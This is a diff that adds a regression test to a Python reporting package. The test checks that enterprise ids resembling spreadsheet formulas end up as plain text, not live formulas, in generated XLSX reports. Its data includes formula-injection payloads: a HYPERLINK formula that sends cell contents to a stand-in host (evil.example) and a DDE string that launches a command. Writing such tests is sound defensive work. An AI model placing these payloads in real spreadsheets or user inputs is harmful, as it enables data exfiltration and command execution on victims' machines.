@@ -238,3 +238,27 @@ def test_grades_resting_on_part_of_the_system_are_provisional(result):
     for e in result["indicator_assessment"]["enterprises"]:
         assert 0 < e["coverage"] <= 0.61 + 1e-9 and e["provisional"] is True
     assert "暂定" in to_html(result)
+
+
+def test_survey_text_that_looks_like_a_formula_is_text_in_xlsx_reports():
+    """An enterprise id `=HYPERLINK(...)` once became a live formula in the XLSX report (issue 15)."""
+    import io
+
+    from openpyxl import load_workbook
+
+    from cpkb.diagnostics.engine import diagnose
+    from cpkb.diagnostics.report import to_xlsx
+    from cpkb.settings import load_settings
+
+    raw = example_raw()
+    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]
+    for enterprise, text in zip(raw["enterprises"], hostile):
+        enterprise["id"] = text
+        enterprise["name"] = text
+    raw["scope"]["title"] = "=1+1"
+    result = diagnose(read(raw), real_store(), load_settings())
+    book = load_workbook(io.BytesIO(to_xlsx(result)))
+    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = {c.value for c in cells if isinstance(c.value, str)}
+    assert hostile[0] in texts and "=1+1" in texts
